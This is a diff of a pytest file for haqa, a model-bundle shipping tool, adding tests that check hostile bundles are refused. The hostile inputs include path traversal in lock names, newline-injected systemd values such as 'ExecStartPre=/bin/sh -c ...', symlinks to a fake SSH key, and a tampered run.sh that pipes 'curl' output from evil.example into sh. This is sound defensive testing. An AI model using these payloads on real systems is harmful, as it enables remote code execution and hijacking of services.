@@ -68,18 +68,27 @@ def small_bundle(tmp_path) -> Path:
                        peak_bytes=64 * 2**20)
 
 
-def edit_lock(bundle: Path, change) -> None:
-    """Change the lock and write SHA256SUMS again, as a bundle made for another device would have."""
-    lock_file = bundle / "haqa.lock.json"
-    lock = json.loads(lock_file.read_text())
-    change(lock)
-    lock_file.unlink()  # a new file: never write through a hard link into haqa's cache
-    lock_file.write_text(json.dumps(lock))
+def rewrite_sums(bundle: Path, name: str) -> None:
+    """Write the line of `name` in SHA256SUMS again for its current content, as anyone can."""
     sums = bundle / "SHA256SUMS"
-    lines = [f"{sha256_file(lock_file)}  haqa.lock.json" if line.endswith("  haqa.lock.json") else line
+    lines = [f"{sha256_file(bundle / name)}  {name}" if line.endswith(f"  {name}") else line
              for line in sums.read_text().splitlines()]
     sums.unlink()
     sums.write_text("\n".join(lines) + "\n")
+
+
+def replace_file(bundle: Path, name: str, data: bytes) -> None:
+    """New bytes for a bundle file, with its SHA256SUMS line written again."""
+    (bundle / name).unlink()  # a new file: never write through a hard link into haqa's cache
+    (bundle / name).write_bytes(data)
+    rewrite_sums(bundle, name)
+
+
+def edit_lock(bundle: Path, change) -> None:
+    """Change the lock and write SHA256SUMS again, as a bundle made for another device would have."""
+    lock = json.loads((bundle / "haqa.lock.json").read_text())
+    change(lock)
+    replace_file(bundle, "haqa.lock.json", json.dumps(lock).encode())
 
 
 @pytest.fixture(scope="module")
@@ -420,6 +429,248 @@ def test_to_hf_without_a_token_says_how_to_log_in(small_bundle, tmp_path):
                           cwd=REPO, capture_output=True, text=True, env=env, timeout=120)
     assert proc.returncode == 2 and "no Hugging Face token" in proc.stderr and "HF_TOKEN" in proc.stderr
     _no_traceback(proc.stderr)
+
+
+# -- fast: hostile and careless bundles --------------------------------------------------------------
+
+def test_a_lock_name_that_is_a_path_is_refused_and_nothing_outside_the_bundles_folder_is_touched(
+        small_bundle, device, haqa):
+    """target.name = "../../../../x", SHA256SUMS written again: the install folder would be
+    <workdir>/bundles/smollm2-135m@../../../../x, that is <workdir>/../x, where ship removed "stale" files."""
+    outside = device.parent.parent.parent / "x"
+    outside.mkdir()
+    (outside / "notes.txt").write_text("the user's own file")
+    edit_lock(small_bundle, lambda lock: lock["target"].update(name="../../../../x"))
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
+    assert code == 2, err
+    assert "'target.name': names are lower case letters" in err and "got '../../../../x'" in err, err
+    _no_traceback(err)
+    assert sorted(os.listdir(outside)) == ["notes.txt"] and (outside / "notes.txt").read_text() == "the user's own file"
+    assert not device.parent.exists()  # not even the bundles folder was made
+
+
+@pytest.mark.parametrize("key, name", [("target", "local\nExecStartPre=/bin/sh -c 'touch /tmp/owned'"),
+                                       ("recipe", "smollm2-135m\n[Service]")], ids=["target", "recipe"])
+def test_a_name_with_a_newline_is_refused_before_anything_is_uploaded(small_bundle, device, haqa, key, name):
+    edit_lock(small_bundle, lambda lock: lock[key].update(name=name))
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
+    assert code == 2 and f"'{key}.name': names are lower case letters" in err, err
+    _no_traceback(err)
+    assert not device.parent.exists()
+
+
+@pytest.mark.parametrize("kind", ["folder", "link"])
+def test_an_existing_folder_haqa_did_not_make_keeps_its_files(small_bundle, device, haqa, tmp_path, kind):
+    mine = device if kind == "folder" else tmp_path / "mine"
+    mine.mkdir(parents=True)
+    (mine / "notes.txt").write_text("the user's own file")
+    if kind == "link":  # the install path is a symbolic link to the user's folder
+        device.parent.mkdir(parents=True)
+        device.symlink_to(mine)
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
+    assert code == 2, err
+    what = "a folder haqa did not make (it has no .haqa-install" if kind == "folder" else "a symbolic link"
+    assert f"{device} on the device is {what}" in err and "hint: move it out of the way" in err, err
+    _no_traceback(err)
+    assert os.listdir(mine) == ["notes.txt"] and (mine / "notes.txt").read_text() == "the user's own file"
+
+
+def test_an_install_of_an_earlier_haqa_is_taken_over_and_its_stale_files_removed(small_bundle, device, haqa):
+    """A folder with a lock and run.sh but no marker (what haqa before the marker wrote) is haqa's: it
+    gets the marker, and a file the new bundle does not list is removed. The placeholder server then
+    stops at once, so ship fails after the upload, which is what this test looks at."""
+    device.mkdir(parents=True)
+    for name in ("haqa.lock.json", "run.sh", "old-Q8_0.gguf"):
+        (device / name).write_text("from an earlier bundle")
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
+    assert "removed 1 file(s) an earlier bundle left in" in err, err
+    assert (device / ".haqa-install").is_file() and not (device / "old-Q8_0.gguf").exists()
+    assert (device / "haqa.lock.json").read_bytes() == (small_bundle / "haqa.lock.json").read_bytes()
+    assert code == 2 and "llama-server stopped before it answered /health" in err
+
+
+def _link_a_listed_file(bundle: Path, outside: Path) -> None:
+    # The same bytes outside the bundle, so the sha256 still matches: only the link is wrong.
+    shutil.copy(bundle / "Modelfile", outside / "Modelfile")
+    (bundle / "Modelfile").unlink()
+    (bundle / "Modelfile").symlink_to(outside / "Modelfile")
+
+
+def _link_a_parent_folder(bundle: Path, outside: Path) -> None:
+    shutil.copytree(bundle / "bin", outside / "bin")
+    shutil.rmtree(bundle / "bin")
+    (bundle / "bin").symlink_to(outside / "bin")
+
+
+def _link_an_unlisted_entry(bundle: Path, outside: Path) -> None:
+    (outside / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    (bundle / "notes").symlink_to(outside / "id_ed25519")
+
+
+@pytest.mark.parametrize("link", [_link_a_listed_file, _link_a_parent_folder, _link_an_unlisted_entry],
+                         ids=["listed file", "parent folder", "unlisted entry"])
+def test_a_symbolic_link_in_a_bundle_is_refused(small_bundle, device, haqa, tmp_path, link):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    link(small_bundle, outside)
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
+    assert code == 2 and "is a symbolic link (to " in err and "refuses to read through a link" in err, err
+    _no_traceback(err)
+    assert not device.parent.exists()
+
+
+def _append_to_sums(bundle: Path, data: bytes) -> None:
+    with open(bundle / "SHA256SUMS", "ab") as f:
+        f.write(data)
+
+
+def _lock_a_folder(bundle: Path) -> None:
+    (bundle / "haqa.lock.json").unlink()
+    (bundle / "haqa.lock.json").mkdir()
+
+
+# Broken locks, each with the message it gets (test_from_lock.py gives them to `deploy --from-lock` too).
+LOCK_DAMAGE = [
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["target"].update(facts=[])),
+                 "'target.facts': Input should be a valid dictionary", id="target.facts a list"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["metrics"].pop("memory")),
+                 "'metrics.memory' is missing", id="metrics without memory"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].update(turbo=True)),
+                 "'runtime.turbo' is not a key haqa knows there; valid: threads, ctx_size", id="unknown runtime knob"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].update(threads="2")),
+                 "'runtime.threads': Input should be a valid integer (got '2')", id="runtime knob of the wrong type"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["model"].update(file_type=5)),
+                 "'model.file_type': Input should be a valid string (got 5)", id="file_type not a string"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["model"].update(file_type="Q9_X")),
+                 "'model.file_type': not a GGUF quant type haqa knows, got 'Q9_X'", id="unknown quant"),
+    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].pop("threads")),
+                 "'runtime.threads' is missing", id="runtime without threads"),
+    pytest.param(lambda b: replace_file(b, "haqa.lock.json", b'{"target": "\xff"}'),
+                 "haqa.lock.json is not a haqa lock: it is not UTF-8 text", id="lock not UTF-8"),
+    pytest.param(lambda b: replace_file(b, "haqa.lock.json", b"[1, 2]"),
+                 "haqa.lock.json is not a haqa lock: it holds a JSON list", id="lock a JSON list"),
+    pytest.param(_lock_a_folder, "haqa.lock.json is a folder, where SHA256SUMS lists a file", id="lock a folder"),
+    pytest.param(lambda b: _append_to_sums(b, b"\xff\xfe\n"), "SHA256SUMS is not UTF-8 text", id="sums not UTF-8"),
+]
+
+
+@pytest.mark.parametrize("damage, message", LOCK_DAMAGE)
+def test_a_lock_of_the_wrong_shape_gets_one_clear_message(small_bundle, device, haqa, damage, message):
+    damage(small_bundle)
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop")
+    assert code == 2 and message in err and "hint:" in err, err
+    _no_traceback(err)
+    assert not device.parent.exists()
+
+
+def test_service_files_refuse_values_with_newlines_or_control_characters(tmp_path):
+    from haqa.bundle import services
+    from haqa.errors import UserError
+    from haqa.ship import launchd_plist, systemd_unit
+
+    command = [f"{tmp_path}/bundles/x\nExecStartPre=/bin/evil/run.sh", "--host", "127.0.0.1"]
+    refusals = [lambda: systemd_unit(LABEL, command), lambda: systemd_unit("a\rb", ["/x/run.sh"]),
+                lambda: launchd_plist("dev.haqa.x", command, tmp_path / "server.log"),
+                lambda: launchd_plist("dev.haqa.x\x1b[2J", ["/x/run.sh"], tmp_path / "server.log"),
+                lambda: services.systemd_unit(RECIPE, "smol@local\nExecStartPre=/bin/evil"),
+                lambda: services.launchd_plist(RECIPE, "smol@local\x00"),
+                lambda: services.modelfile("m.gguf\nSYSTEM evil", CONFIG, LABEL)]
+    for render in refusals:
+        with pytest.raises(UserError, match="has a newline or another control character"):
+            render()
+
+
+def _bundle_of(path: Path):
+    from haqa.ship import verify_bundle
+
+    return verify_bundle(path)
+
+
+def test_a_config_folder_or_home_the_device_prints_with_a_newline_is_refused(small_bundle, tmp_path, monkeypatch):
+    """The device is this machine through the local runner; its XDG_CONFIG_HOME, HOME and `id -u` are
+    what a hostile device would print (`id` is a script on PATH printing two lines)."""
+    from haqa.errors import UserError
+    from haqa.runner import LocalRunner
+    from haqa.ship import LaunchdService, SystemdUserService
+
+    bundle, dest, runner = _bundle_of(small_bundle), tmp_path / "install", LocalRunner(tmp_path / "home")
+    monkeypatch.setenv("XDG_CONFIG_HOME", f"{tmp_path}/conf\nig")
+    with pytest.raises(UserError, match="the user's config folder on the device is .*not an absolute plain path"):
+        SystemdUserService(runner, bundle, dest, "127.0.0.1", 8080).start()
+    monkeypatch.setenv("HOME", f"{tmp_path}/ho\nme")
+    with pytest.raises(UserError, match="the user's home on the device is .*not an absolute plain path"):
+        LaunchdService(runner, bundle, dest, "127.0.0.1", 8080).start()
+    assert not (tmp_path / "conf\nig").exists() and not (tmp_path / "ho\nme").exists()
+    fake = tmp_path / "bin"
+    fake.mkdir()
+    (fake / "id").write_text("#!/bin/sh\nprintf '501\\nevil'\n")
+    (fake / "id").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
+    with pytest.raises(UserError, match="`id -u` on the device printed '501\\\\nevil', not a user id"):
+        LaunchdService(runner, bundle, dest, "127.0.0.1", 8080).stop()
+
+
+# -- fast: signatures (real keys made by ssh-keygen) ---------------------------------------------------
+
+def _keygen(*args: str, cwd: Path | None = None) -> None:
+    subprocess.run(["ssh-keygen", "-q", *args], cwd=cwd, check=True, capture_output=True, timeout=60)
+
+
+def _make_key(folder: Path, who: str) -> tuple[Path, str]:
+    """A new ed25519 key and its allowed-signers line for the haqa-bundle namespace."""
+    key = folder / who
+    _keygen("-t", "ed25519", "-N", "", "-C", who, "-f", str(key))
+    return key, f'{who} namespaces="haqa-bundle" {Path(f"{key}.pub").read_text().strip()}\n'
+
+
+@pytest.fixture
+def signer(tmp_path) -> tuple[Path, Path]:
+    """(private key, allowed-signers file that trusts it)."""
+    if not shutil.which("ssh-keygen"):
+        pytest.skip("ssh-keygen is not installed")
+    keys = tmp_path / "keys"
+    keys.mkdir()
+    key, line = _make_key(keys, "maker@example.com")
+    (keys / "allowed_signers").write_text(line)
+    return key, keys / "allowed_signers"
+
+
+def sign(bundle: Path, key: Path) -> None:
+    """What the README tells a bundle's maker to run."""
+    _keygen("-Y", "sign", "-f", str(key), "-n", "haqa-bundle", "SHA256SUMS", cwd=bundle)
+
+
+def test_a_signed_bundle_verifies_and_ships(small_bundle, signer, haqa):
+    key, allowed = signer
+    sign(small_bundle, key)
+    with StandIn(ollama_answer) as ollama:
+        code, out, err = haqa("ship", str(small_bundle), "--allowed-signers", str(allowed),
+                              "--ollama", "--ollama-host", ollama.url)
+    assert code == 0, err
+    assert f"which maker@example.com signed (a key in {allowed})" in err and "not listed" not in err, err
+
+
+def test_a_tampered_run_sh_with_recomputed_sums_fails_the_signature(small_bundle, signer, device, haqa):
+    key, allowed = signer
+    sign(small_bundle, key)
+    replace_file(small_bundle, "run.sh", b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
+    assert code == 2, err
+    assert "SHA256SUMS.sig does not verify for SHA256SUMS" in err and "refusing the bundle" in err, err
+    _no_traceback(err)
+    assert not device.parent.exists()
+
+
+def test_a_bundle_signed_by_another_key_or_not_at_all_is_refused(small_bundle, signer, device, haqa, tmp_path):
+    _, allowed = signer
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
+    assert code == 2 and "has no SHA256SUMS.sig" in err and "ssh-keygen -Y sign" in err, err
+    other, _ = _make_key(tmp_path / "keys", "someone@else.example")
+    sign(small_bundle, other)
+    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
+    assert code == 2 and "SHA256SUMS.sig was not made by any key in" in err, err
+    _no_traceback(err)
+    assert not device.parent.exists()
 
 
 # -- slow: the real bundle on the loopback device ---------------------------------------------------
